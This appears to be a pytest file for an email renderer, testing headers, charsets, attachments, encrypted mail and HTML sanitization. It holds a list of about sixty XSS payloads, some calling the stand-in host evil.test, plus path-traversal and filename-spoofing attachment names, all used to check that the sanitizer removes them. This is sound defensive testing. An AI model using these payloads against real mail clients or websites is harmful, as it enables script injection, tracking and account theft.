"""A message is shown as text and a few harmless elements, whatever its sender made of it."""

import os
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from email.message import EmailMessage
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from locum.charsets import decode
from locum.entry import bad_character
from locum.messages import LANGUAGES, says
from locum.rendering import Attachment, Rendered, attachment, render
from locum.rendering.markup import TAGS

HEAD = b"From: Klant <klant@else.test>\r\nTo: anna@corp.test\r\nDate: Mon, 23 Nov 2026 10:00:00 +0100\r\nSubject: Offerte\r\n"


def of(body: bytes, kind: bytes = b"text/plain; charset=utf-8", more: bytes = b"") -> bytes:
    return HEAD + more + b"Content-Type: " + kind + b"\r\n\r\n" + body


def html_of(markup: str) -> str:
    shown = render(of(markup.encode(), b"text/html; charset=utf-8")).html
    assert shown is not None
    return shown


def mixed(*parts: bytes, kind: bytes = b"multipart/mixed") -> bytes:
    body = b"".join(b"--q\r\n" + part + b"\r\n" for part in parts) + b"--q--\r\n"
    return of(body, kind + b"; boundary=q")


def with_file(name: str, kind: str = "application/pdf") -> bytes:
    return mixed(
        b"\r\nhello",
        f'Content-Type: {kind}\r\nContent-Disposition: attachment; filename="{name}"\r\n\r\n%PDF'.encode(),
    )


# who, when, what


def test_the_headers_are_shown_as_text():
    shown = render(of(b"hi", more=b"Cc: =?utf-8?q?B=C3=A9?= <b@corp.test>, c@corp.test\r\n"))
    assert (shown.from_, shown.to, shown.cc, shown.subject) == (
        "Klant <klant@else.test>",
        ("anna@corp.test",),
        ("Bé <b@corp.test>", "c@corp.test"),
        "Offerte",
    )


def test_when_it_was_written_is_utc():
    assert render(of(b"hi")).at == datetime(2026, 11, 23, 9, tzinfo=UTC)


@pytest.mark.parametrize("date", [b"gisteren", b"", b"Mon, 99 Nov 9999 99:99:99 +9999", b"\xff"])
def test_a_date_that_is_none_is_none(date):
    assert render(HEAD.replace(b"Mon, 23 Nov 2026 10:00:00 +0100", date) + b"\r\nhi").at is None


def test_a_name_cannot_turn_the_address_beside_it():
    shown = render(HEAD.replace(b"Klant", b"=?utf-8?q?baas=40corp.test_=E2=80=AE?=") + b"\r\nhi")
    assert shown.from_ == "baas@corp.test <klant@else.test>"


def test_a_name_cannot_claim_another_address_in_brackets():
    shown = render(HEAD.replace(b"Klant", b'"Baas <baas@corp.test>"') + b"\r\nhi")
    assert shown.from_ == "Baas ‹baas@corp.test› <klant@else.test>"


def test_raw_letters_in_a_header_are_read():
    assert render(HEAD.replace(b"Offerte", "Privé".encode()) + b"\r\n").subject == "Privé"


def test_nothing_of_a_message_shows_in_a_repr():
    shown = render(with_file("geheim.pdf"))
    assert not {"klant", "Offerte", "hello", "geheim"} & set(repr(shown).replace("'", " ").split())


# the text


@pytest.mark.parametrize(
    ("raw", "kind", "text"),
    [
        (b"Beste Anna,\r\n\r\nDank", b"text/plain; charset=utf-8", "Beste Anna,\n\nDank"),
        ("één".encode("latin-1"), b"text/plain; charset=iso-8859-1", "één"),
        ("één".encode("latin-1"), b"text/plain; charset=utf-8", "één"),
        ("één".encode(), b"text/plain; charset=us-ascii", "één"),
        ("één".encode(), b"text/plain; charset=x-unknown", "één"),
        ("één".encode(), b"text/plain; charset=idna", "één"),
        ("één".encode(), b"text/plain; charset=unicode_escape", "één"),
        ("één".encode(), b"text/plain; charset=zlib", "één"),
        ("één".encode(), b"text/plain; charset=\xff\xfe", "één"),
        ("één €".encode("cp1252"), b"text/plain", "één €"),
        ("日本".encode("iso-2022-jp"), b"text/plain; charset=iso-2022-jp", "日本"),
        ("é".encode("utf-16"), b"text/plain; charset=utf-16", "é"),
        (b"a\x1b[31mb\x07\xe2\x80\xaec", b"text/plain; charset=utf-8", "a[31mbc"),
        (b"", b"text/plain", ""),
        (b"no slash", b"nonsense", "no slash"),
    ],
)
def test_text_is_read_in_the_character_set_it_is_really_in(raw, kind, text):
    assert render(of(raw, kind)).text == text


@pytest.mark.parametrize(
    "name", ["idna", "punycode", "unicode_escape", "UNICODE-ESCAPE", "undefined", "x" * 99, "a\0b"]
)
def test_an_encoding_that_is_none_of_a_message_is_unknown(name):
    with pytest.raises(LookupError):
        decode(b"x", name)


def test_plain_text_is_preferred_and_html_is_beside_it():
    shown = render(mixed(b"\r\nplain", b"Content-Type: text/html\r\n\r\n<p>marked</p>", kind=b"multipart/alternative"))
    assert (shown.text, shown.html) == ("plain", "<p>marked</p>")


def test_html_alone_is_read_as_text_too():
    markup = "<p>Beste&nbsp;Anna,</p><ul><li>een</li><li>twee</li></ul><pre>a  b</pre>x<br>y<div hidden>z</div>"
    assert render(of(markup.encode(), b"text/html")).text == "Beste Anna,\n\n- een\n- twee\n\na  b\nx\ny\nz"


def test_several_texts_follow_each_other():
    shown = render(mixed(b"\r\none & <two>", b"Content-Type: text/html\r\n\r\n<b>three</b>"))
    assert (shown.text, shown.html) == ("one & <two>\nthree", "<pre>one &amp; &lt;two&gt;</pre><hr><b>three</b>")


def test_text_that_is_too_long_is_cut_and_that_is_said():
    shown = render(of(b"x" * 1_000_001))
    assert (len(shown.text), shown.troubles) == (1_000_000, ("text-cut",))


@pytest.mark.parametrize("markup", [b"<i>x</i>" * 20_000, b"x" * 1_000_001])
def test_html_that_is_too_large_is_left_out_and_that_is_said(markup):
    shown = render(of(markup, b"text/html"))
    assert (shown.text, shown.html, shown.troubles) == ("", None, ("html-too-large",))


# HTML of strangers

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.test/pixel.gif">',
    '<img src="cid:logo@else.test">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'https://evil.test/x.css'; p{background:url(https://evil.test)}</style><p>x",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>Sign in again</p>",
    "<div style='display:none'>hidden</div>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.test/?token=1'>bank.test</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a ping=https://evil.test href=#>x</a>",
    "<form action=https://evil.test><input name=password><button formaction=javascript:alert(1)>ok</button></form>",
    "<iframe src=https://evil.test srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x>",
    "<video poster=https://evil.test/x src=x onerror=alert(1)><source src=x></video>",
    "<audio src=https://evil.test/a autoplay></audio>",
    "<body background=https://evil.test/x onload=alert(1)>x",
    "<table background='https://evil.test/x'><td background='javascript:alert(1)'>x",
    "<input type=image src=https://evil.test/x autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p id=content name=csrf class=button>x</p>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</p><script>alert(1)</script>",
    "<p onclick=alert(1) ondragstart=alert(1)>x",
    "<b/style=x:expression(alert(1))>x</b>",
    "<td colspan=99999999>x<td rowspan=-1>y<ol start=1e9><li>z",
    "<font color=red face='x' size=99>x</font>",
    "<bdo dir=rtl>evil</bdo><p dir=rtl>x</p>",
    "<p>\x00<scr\x00ipt>alert(1)</script>",
    "<p>&#x202e;gpj.exe&#8238;</p>",
    "<a\thref\n=\r'java\tscript:alert(1)'>x</a>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<<script>alert(1)//<</script>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)><isindex action=x><frameset onload=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<portal src=https://evil.test></portal><dialog open>x</dialog>",
]


def test_what_finds_harm_finds_it():
    assert [markup for markup in HOSTILE if not list(harm_in(unescape(markup)))] == []


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, tuple(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def harm_in(markup: str) -> Iterator[object]:
    """Whatever stands in it that should not."""
    read = _Elements()
    read.feed(markup)
    read.close()
    yield from read.others
    for tag, attributes in read.found:
        if tag not in TAGS:
            yield tag
        yield from (
            one for one in attributes if one[0] not in {"colspan", "rowspan", "start"} or not (one[1] or "").isdigit()
        )
    if bad_character(markup) is not None:
        yield bad_character(markup)


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_harmful_of_hostile_html_stays(markup):
    assert list(harm_in(html_of(markup))) == []


@pytest.mark.parametrize("markup", HOSTILE)
def test_no_address_of_another_place_stays_in_hostile_html(markup):
    assert "//evil.test" not in html_of(markup)


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<p>", "</p>", "<table>", "<td>", "-->", "'", '"', ">", "</style>", "&lt;"]),
        max_size=8,
    )
)
def test_nothing_harmful_stays_however_hostile_html_is_mixed(pieces):
    assert list(harm_in(html_of("".join(pieces)))) == []


@given(st.text(alphabet="<>/!-=\"'&;#x\0 abpsvg\n\u202e", max_size=120))
def test_whatever_the_markup_is_it_is_made_harmless(markup):
    assert list(harm_in(html_of(markup))) == []


def test_what_is_made_harmless_once_stays_as_it_is():
    once = html_of("<table><tr><td colspan=2>a &amp; b</td></tr></table><ol start=3><li><b>c</b></li></ol>")
    assert html_of(once) == once


def test_what_a_style_hid_is_shown():
    assert html_of("<div style='display:none;font-size:0'>small print</div>") == "<div>small print</div>"


def test_html_hidden_in_plain_text_stays_text():
    assert render(of(b"<script>alert(1)</script>")).html is None


# attachments


def test_attachments_are_listed():
    assert render(with_file("factuur.pdf")).attachments == (
        Attachment(n=1, name="factuur.pdf", type="application/pdf", size=4),
    )


def test_an_attachment_is_taken_out():
    assert attachment(with_file("factuur.pdf"), 1) == ("factuur.pdf", "application/pdf", b"%PDF")


@pytest.mark.parametrize("n", [0, 2, -1])
def test_there_is_no_attachment_beyond_those_listed(n):
    assert attachment(with_file("factuur.pdf"), n) is None


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        (r"C:\Windows\system32\evil.exe", "evil.exe"),
        ("/etc/shadow", "shadow"),
        ("..", "1"),
        ("", "1"),
        ("...", "1"),
        (".htaccess", "htaccess"),
        ("factuur.pdf                                 .exe", "factuur.pdf .exe"),
        ("factuur\u202efdp.exe", "factuurfdp.exe"),
        ("a:b|c?d*e<f>.pdf", "abcdef.pdf"),
        ("x\u200by\ufeff.pdf", "xy.pdf"),
        ("x" * 300 + ".pdf", "x" * 95 + "….pdf"),
        ("x" * 300, "x" * 99 + "…"),
        ("a.tar.gz", "a.tar.gz"),
        ("=?utf-8?q?Priv=C3=A9.pdf?=", "Privé.pdf"),
        ("x%2e%2e%2fy.pdf", "x2e2e2fy.pdf"),
    ],
)
def test_the_name_of_an_attachment_is_harmless(name, shown):
    assert render(with_file(name)).attachments[0].name == shown


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "application/x-msdownload"])
def test_an_attachment_is_not_shown_whatever_it_is(kind):
    assert (render(with_file("a.html", kind)).text, render(with_file("a.html", kind)).html) == ("hello", None)


def test_a_type_that_is_none_is_bytes():
    assert render(with_file("a", 'text/"><script>')).attachments[0].type in {"application/octet-stream", "text/plain"}


def test_a_message_in_a_message_is_attached_and_not_shown():
    shown = render(mixed(b"\r\nhello", b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nsecret"))
    assert (shown.text, [(one.name, one.type) for one in shown.attachments]) == (
        "hello",
        [("1.eml", "message/rfc822")],
    )


def test_a_message_in_a_message_is_taken_out_whole():
    found = attachment(mixed(b"\r\nhello", b"Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nsecret"), 1)
    assert found is not None
    assert found[2].split() == b"Subject: inner secret".split()


def test_an_image_in_the_text_is_attached():
    related = mixed(
        b"Content-Type: text/html\r\n\r\n<img src='cid:1'>x",
        b"Content-Type: image/png\r\nContent-ID: <1>\r\n\r\nPNG",
        kind=b"multipart/related",
    )
    assert (render(related).html, [one.type for one in render(related).attachments]) == ("x", ["image/png"])


# encrypted, broken, huge


@pytest.mark.parametrize(
    "message",
    [
        of(b"x", b"application/pkcs7-mime; smime-type=enveloped-data"),
        of(b"x", b"application/pkcs7-mime; smime-type=signed-data"),
        of(b"x", b"APPLICATION/X-PKCS7-MIME"),
        of(b"x", b"application/octet-stream; name=smime.p7m"),
        of(b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQ"),
        of(b"<pre>-----BEGIN PGP MESSAGE-----", b"text/html"),
        mixed(b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1", b"\r\nx", kind=b"multipart/encrypted"),
        mixed(b"\r\nhello", b"Content-Type: application/pkcs7-mime\r\n\r\nx"),
        with_file("message.rpmsg", "application/octet-stream"),
    ],
)
def test_encrypted_mail_is_not_shown(message):
    shown = render(message)
    assert (shown.text, shown.html, shown.attachments, shown.troubles) == ("", None, (), ("encrypted",))


def test_of_encrypted_mail_no_attachment_is_taken_out():
    assert (
        attachment(
            mixed(b"Content-Type: application/pdf\r\n\r\nx", b"Content-Type: application/pkcs7-mime\r\n\r\nx"), 1
        )
        is None
    )


def nested(depth: int) -> bytes:
    return (
        HEAD
        + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(depth))
        + b"\nhi"
    )


def test_a_few_levels_are_read():
    assert render(nested(20)).text == "hi"


@pytest.mark.parametrize(
    "message",
    [
        nested(200),
        nested(20_000),
        HEAD + b"Content-Type: message/rfc822\n\n" * 5000,
        HEAD + b"Content-Type: multipart/mixed; boundary=q\n\n" + b"--q\n\n" * 2000,
        of(b"x", b"text/plain; " + b"a=b;" * 200_000),
    ],
)
def test_what_is_too_deep_or_too_many_is_not_shown(message):
    assert render(message).troubles == ("unreadable",)


@pytest.mark.parametrize(
    "message",
    [
        nested(2000),
        of(b"<div>" * 20_000, b"text/html"),
        of(b"<!--" * 29_000, b"text/html"),
        of(b"", more=b"To: " + b"a@b.test, " * 100_000 + b"\r\n"),
        of(b"", more=b"To: " + b"(" * 100_000 + b"\r\n"),
        of(b"", more=b"Cc: " + b"=?utf-8?q?a?= " * 20_000 + b"\r\n"),
        of(b"x" * 100_000, b"text/plain; charset=punycode"),
        mixed(b"Content-Transfer-Encoding: base64\r\n\r\n" + b"A" * 3_000_000),
    ],
)
@pytest.mark.slow
def test_no_message_takes_long(message):
    begun = time.process_time()
    render(message)
    assert time.process_time() - begun < 5


@given(st.binary(max_size=1500))
def test_whatever_the_bytes_are_something_is_shown(data):
    for message in (data, HEAD + data, mixed(data, b"Content-Type: " + data), of(data, b"text/html")):
        assert isinstance(render(message), Rendered)


@given(st.binary(max_size=300), st.integers(0, 400))
def test_a_message_that_was_cut_or_changed_somewhere_is_shown_as_far_as_it_goes(data, place):
    whole = mixed(
        b"Content-Type: text/html\r\n\r\n<p>x", b"Content-Type: application/pdf; name*0*=utf-8''x%FF\r\n\r\n%PDF"
    )
    for one in render(whole[:place] + data + whole[place + len(data) :]).attachments:
        assert one.size >= 0


def test_every_attachment_that_is_listed_can_be_taken_out():
    message = EmailMessage()
    message["From"] = "a@b.test"
    message.set_content("text")
    message.add_alternative("<p>text", subtype="html")
    for n in range(5):
        message.add_attachment(bytes([n]) * n, "application", "x", filename=f"{n}")
    raw = message.as_bytes()
    assert [len((attachment(raw, one.n) or ("", "", b"?"))[2]) for one in render(raw).attachments] == [0, 1, 2, 3, 4]


def test_mail_of_the_standard_librarys_own_tests_is_shown():
    files = list((Path(os.__file__).parent / "test" / "test_email" / "data").glob("*.txt"))
    if not files:
        pytest.skip("this Python comes without its own tests")
    assert [file.name for file in files if not isinstance(render(file.read_bytes()), Rendered)] == []


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_trouble_has_its_sentence(language):
    assert [
        key
        for key in ("encrypted", "unreadable", "html-too-large", "text-cut")
        if not says(language, f"rendering.{key}")
    ] == []
